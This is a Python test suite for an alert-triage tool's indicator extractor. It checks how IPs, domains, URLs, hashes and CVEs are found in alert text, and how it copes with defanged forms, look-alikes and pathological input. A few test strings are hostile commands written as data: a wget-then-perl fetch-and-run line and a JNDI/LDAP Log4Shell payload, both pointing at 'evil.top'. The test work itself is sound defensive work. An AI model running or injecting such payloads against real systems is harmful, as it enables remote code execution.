"""Which indicators are found in an alert, which look-alikes are not, and that hostile text stalls nothing."""

from __future__ import annotations

import json
import re
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alerttui.domain.alert import Alert, Indicator
from alerttui.domain.indicator_fields import hints_of
from alerttui.domain.indicator_text import spotted_in
from alerttui.domain.indicators import MAX_FOUND, MAX_PLACES, FoundIndicator, find_indicators
from tests.alerts import an_alert
from tests.ingest.collecting_store import imported
from tests.places import REAL_ALERTS

SHA256 = "352b525e9c26cb92693899528fe007c2d0a1b2c3d4e5f60718293a4b5c6d7e8f"
MD5 = "352b525e9c26cb92693899528fe007c2"
SHA1 = "8ae6c0dea8d61ea98e9f91380c2c34751bbc9ffd"


def found(text: str) -> list[tuple[str, str]]:
    """Kind and value of what stands in a free text."""
    return [(each.kind, each.value) for each in spotted_in(text)]


def of_event(event: object, **values: object) -> dict[tuple[str, str], FoundIndicator]:
    """What is found in an alert with one event, by kind and value."""
    alert = replace(an_alert().alert, **values)  # type: ignore[arg-type]  # by field name
    return {(each.kind, each.value): each for each in find_indicators(alert, [json.dumps(event)]).found}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("login from 203.0.113.9.", [("ip", "203.0.113.9")]),
        ("inside/10.0.0.1(1234) -> outside:198.51.100.7/443", [("ip", "10.0.0.1"), ("ip", "198.51.100.7")]),
        ("net 10.0.0.0/8 and [2001:db8::1]:443", [("ip", "2001:db8::1"), ("ip", "10.0.0.0/8")]),
        ("::ffff:198.51.100.7 connected", [("ip", "198.51.100.7")]),
        ("fe80::1%eth0", [("ip", "fe80::1")]),
        ("c2 at evil.top, and EVIL.ORG", [("domain", "evil.top"), ("domain", "evil.org")]),
        (
            "dns x.y.attacker.pl for xn--pple-43d.com",
            [("domain", "x.y.attacker.pl"), ("domain", "xn--pple-43d.com")],
        ),
        ("see (https://evil.top/a(b)?q=1).", [("url", "https://evil.top/a(b)?q=1"), ("domain", "evil.top")]),
        ("wget http://evil.top/x;perl x", [("url", "http://evil.top/x"), ("domain", "evil.top")]),
        ("${jndi:ldap://evil.top:1389/a}", [("url", "ldap://evil.top:1389/a"), ("domain", "evil.top")]),
        (r'{"u":"http:\/\/evil.top\/a"}', [("url", "http://evil.top/a"), ("domain", "evil.top")]),
        (
            "http://a.top/,http://b.top/",
            [("url", "http://a.top/"), ("domain", "a.top"), ("url", "http://b.top/"), ("domain", "b.top")],
        ),
        ("http://203.0.113.9:8080/x", [("url", "http://203.0.113.9:8080/x"), ("ip", "203.0.113.9")]),
        ("mail <Bob.B@Evil.top>", [("email", "bob.b@evil.top")]),
        (f"MD5={MD5},SHA1={SHA1},SHA256={SHA256}", [("hash", MD5), ("hash", SHA1), ("hash", SHA256)]),
        (
            "exploits CVE-2021-44228 and cve.2025-55182",
            [("cve", "CVE-2021-44228"), ("cve", "CVE-2025-55182")],
        ),
        (r"copy \\files.corp.local\share", [("domain", "files.corp.local")]),
    ],
)
def test_what_stands_in_a_text_is_found(text: str, expected: list[tuple[str, str]]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("hxxps://evil[.]top/a", [("url", "https://evil.top/a"), ("domain", "evil.top")]),
        ("hxxp[:]//evil(.)top", [("url", "http://evil.top"), ("domain", "evil.top")]),
        ("evil[dot]sh and 203[.]0[.]113[.]9", [("ip", "203.0.113.9"), ("domain", "evil.sh")]),
        ("bob[@]evil[.]top", [("email", "bob@evil.top")]),
    ],
)
def test_disarmed_forms_are_recognized(text: str, expected: list[tuple[str, str]]) -> None:
    assert found(text) == expected


def test_a_disarmed_form_is_kept_as_it_came_until_the_plain_one_is_seen() -> None:
    title = {"title": "evil[.]top was asked"}
    assert of_event({}, **title)["domain", "evil.top"].written == "evil[.]top"
    both = of_event({"m": "to evil.top"}, **title)["domain", "evil.top"]
    assert (both.written, both.count, both.places) == ("evil.top", 2, ("title", "m"))


@pytest.mark.parametrize(
    "text",
    [
        "lsass.exe", "install.sh", "script.py", "readme.md", "libc.so", "setup.zip", "C:\\Windows\\chcp.com",
        "System.Net", "System.Net.WebClient", "Microsoft.Network/publicIPAddresses/write", "ASP.NET",
        "Node.js", "com.apple.mail", "org.gnome.Terminal", "user.name", "event.id", "host.name=web",
        "console.info(x)",
        "os.system", "user.session.start", "google.admin.AdminService.createUser", "AWS.CloudTrail",
        "version 1.2.3.4", "v1.2.3.4", "10.0.26100.2454", "/ui/0/7.2.0.103./en", "1.3.6.1.4.1", "300.1.1.1",
        "12:30:45", "00:1A:2B:3C:4D:5E", "std::vector", "7d:81:1e:9b:ec:8b:4c:bd", "::",
        "0" * 32, "1" * 40, "12345678901234567890123456789012", "0197231E-9BE6-6934-5301-000000000B00",
        f"containerd://{SHA256}", f"sessionid={MD5}", "http://", "http://{host}/x", "a@2x.png", "@evil",
        "git@", "etc.", "e.g.", "...", "http://www.w3.org/2001/XMLSchema",
    ],
)  # fmt: skip
def test_what_only_looks_like_one_is_left_alone(text: str) -> None:
    assert found(text) == []


def test_notes_tell_what_leads_nowhere() -> None:
    notes = {
        "10.1.2.3": "private", "127.0.0.1": "loopback", "169.254.169.254": "link-local",
        "0.0.0.0": "unspecified", "100.64.0.1": "shared by a carrier", "203.0.113.9": "documentation",
        "224.0.0.251": "multicast",
        "255.255.255.255": "broadcast", "8.8.8.8": "", "fd00::1": "private", "::1": "loopback",
        "0.0.0.0/0": "every address", "10.0.0.0/8": "private network", "web.corp": "internal name",
        "a.example.com": "reserved for examples", "evil.top": "", SHA1: "sha1",
        "d41d8cd98f00b204e9800998ecf8427e": "md5, of an empty file",
    }  # fmt: skip
    assert {text: spotted_in(text)[0].note for text in notes} == notes


def test_a_hash_is_what_the_label_before_it_says() -> None:
    assert spotted_in(f"IMPHASH={MD5}")[0].note == "imphash"


def test_fields_say_what_their_values_are() -> None:
    event = {
        "user": {"name": "mara"},
        "TargetUserName": "CORP\\bob",
        "Computer": "srv-01.corp.local",
        "http": {"hostname": "evil.unknownending"},
        "Image": "C:\\Windows\\System32\\cmd.exe",
        "process": {"parent": {"name": "outlook.exe"}},
        "file": {"path": "/tmp/x"},
        "FileVersion": "1.2.3.4",
        "traceId": MD5,
        "eventSource": "iam.amazonaws.com",
        "user_agent": "Skype/7.2.0.103",
        "image": "nginx",
        "request": {"path": "/login"},
        "host": "-",
        "userName": "HIDDEN_DUE_TO_SECURITY_REASONS",
    }
    assert set(of_event(event)) == {
        ("user", "mara"),
        ("user", "CORP\\bob"),
        ("host", "srv-01.corp.local"),
        ("domain", "evil.unknownending"),
        ("process", "C:\\Windows\\System32\\cmd.exe"),
        ("process", "outlook.exe"),
        ("file", "/tmp/x"),
    }


def test_flat_and_nested_names_of_fields_are_one() -> None:
    for names in (("src.user.name",), ("src", "user", "name"), ("srcUserName",), ("src_user",)):
        assert hints_of(names).kind == "user"


def test_an_address_in_a_user_field_is_an_address() -> None:
    assert set(of_event({"user": "mara@evil.top", "host": "203.0.113.9"})) == {
        ("email", "mara@evil.top"),
        ("ip", "203.0.113.9"),
    }


def test_sightings_are_counted_once_with_the_fields_that_hold_them() -> None:
    event = {f"f{number}": "203.0.113.9" for number in range(9)}
    only = of_event(event, title="203.0.113.9 again")["ip", "203.0.113.9"]
    assert (only.count, len(only.places), only.more_places) == (10, MAX_PLACES, 10 - MAX_PLACES)
    assert only.places[:2] == ("title", "f0")


def test_the_most_frequent_of_a_kind_comes_first_and_kinds_in_their_order() -> None:
    body = json.dumps(["b.top", "b.top", "a.top", "8.8.8.8"])
    report = find_indicators(an_alert().alert, [body])
    assert [each.value for each in report.found] == ["8.8.8.8", "b.top", "a.top"]


def test_what_the_source_named_is_one_with_what_was_found() -> None:
    given = (
        Indicator(kind="ipv4", value="203.0.113.9", malice="malicious", score=91, malice_origin="feed"),
        Indicator(kind="file", value="C:\\x.exe"),
        Indicator(kind="Registry", value="HKLM\\x"),
    )
    result = of_event({"src": "203.0.113.9", "Image": "C:\\x.exe"}, indicators=given)
    assert result["ip", "203.0.113.9"].given is given[0]
    assert result["ip", "203.0.113.9"].count == 1
    assert result["process", "C:\\x.exe"].given is given[1]
    assert result["registry", "HKLM\\x"].count == 0


def test_the_most_telling_lead_comes_first_and_what_is_everywhere_is_none() -> None:
    event = {"a": "10.0.0.1 8.8.8.8 127.0.0.1 a.top example.com", "h": MD5, "user": "root"}
    leads = find_indicators(an_alert().alert, [json.dumps(event)]).specific()
    assert [each.value for each in leads] == [MD5, "a.top", "8.8.8.8", "10.0.0.1"]


HOSTILE = [
    "a", "a.", "1.", ":", "http://", "http:/", "a@", "a@b.", "0a", "a[.]", "cve-2021-", "1.1.1.", "://",
    "[", "-", "(at)", "ab:", "%", "ä.ö@", "http[:]//", "f" * 31 + " ", "x=", "\\", "..", "[dot]",
    "http://a.top/)",
]  # fmt: skip


@pytest.mark.parametrize("piece", HOSTILE)
def test_hostile_repetition_is_read_in_one_sweep(piece: str) -> None:
    """Anything worse than linear would take minutes here."""
    spotted_in(piece * (400_000 // len(piece)))


@pytest.mark.parametrize("piece", ["[", '{"a":', '"', "9"])
def test_json_that_cannot_be_read_is_looked_through_as_text(piece: str) -> None:
    alert = replace(an_alert().alert, context=piece * (1_200_000 // len(piece)) + " 203.0.113.9")
    assert "203.0.113.9" in {each.value for each in find_indicators(alert).found}


def test_very_many_indicators_are_bounded_and_the_rest_is_counted() -> None:
    body = json.dumps([f"x{number}.top" for number in range(20_000)])
    report = find_indicators(an_alert().alert, [body])
    assert (len(report.found), report.left_out) == (MAX_FOUND, 20_000 - MAX_FOUND)


def test_very_much_text_is_cut_and_said_so() -> None:
    events = ["x " * 400_000] * 20
    report = find_indicators(an_alert().alert, events, events_total=20)
    assert report.is_cut
    assert report.events_read < 20


def test_it_ends_once_nobody_wants_it() -> None:
    body = json.dumps([f"word {number}" for number in range(5_000)])
    report = find_indicators(an_alert().alert, [body, body], events_total=2, is_wanted=lambda: False)
    assert report.is_cut


PIECES = st.sampled_from(
    ["http", "hxxp", "://", ":", "/", "//", "[", "]", "(", ")", "[.]", ".", "@", "a", "Ä", "\u202e",
    "\ud800", "1",
     "10.0.0.1", "::", "f", "-", "_", "com", "top", " ", "=", "\\", "\x00", "255", "xn--", "%", ";", ",", MD5]
)  # fmt: skip


@given(st.lists(PIECES, max_size=40).map("".join))
@settings(max_examples=100, deadline=None, derandomize=True)
def test_no_text_makes_it_fail_and_what_is_found_again_is_the_same(text: str) -> None:
    for each in spotted_in(text):
        assert each.value
        assert each.written
        assert "\n" not in each.value
        if each.kind in ("ip", "hash", "cve"):
            assert (each.kind, each.value) in [(again.kind, again.value) for again in spotted_in(each.value)]


REAL = [
    "suricata/first-org-conf-2015.alerts-only.json",
    "suricata/wrccdc-2017.alerts-only.json",
    "sigma/sigma_matches.ndjson",
    "panther/rules_with_events.ndjson",
    "wazuh/alerts.ndjson",
    "ocsf/example_output_gcp.ocsf.json",
    "elastic/02_elastic_malware_hash.json",
]
NO_DOMAIN = re.compile(r"\.(exe|dll|js|py|json|txt|php|asp|jsp|cgi|html?|ps1|vbs|sys|lnk|tmp)$|^\d+\.|/|_")


@pytest.mark.skipif(not REAL_ALERTS.is_dir(), reason="the real data is not at hand")
@pytest.mark.parametrize("name", REAL)
def test_real_alerts_yield_no_files_versions_or_ids(name: str) -> None:
    alerts, _ = imported(REAL_ALERTS / name)
    for new in alerts:
        for each in own_finds(new.alert, [event.body for event in new.events]):
            if each.kind == "domain":
                assert not NO_DOMAIN.search(each.value), each
            elif each.kind == "ip":
                assert not any("version" in place.lower() for place in each.places), each
            elif each.kind == "hash":
                assert not any(place.lower().endswith("id") for place in each.places), each


def own_finds(alert: Alert, bodies: list[str]) -> list[FoundIndicator]:
    """What alerttui found by itself."""
    return [each for each in find_indicators(alert, bodies).found if each.given is None]


@pytest.mark.skipif(not REAL_ALERTS.is_dir(), reason="the real data is not at hand")
def test_a_real_alert_yields_all_that_is_in_it() -> None:
    alerts, _ = imported(REAL_ALERTS / "elastic/02_elastic_malware_hash.json")
    new = next(iter(alerts))
    values = {each.value.lower() for each in find_indicators(new.alert, [e.body for e in new.events]).found}
    assert {
        "198.51.100.42", "10.0.15.201", "fe80::1a2b:3c4d:5e6f:7890", "admin@acmeinc.com", "admin",
        "workstation12", "workstation12.corp.acmeinc.com", "svchost_update.exe", "outlook.exe",
        "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2",
    } <= values  # fmt: skip
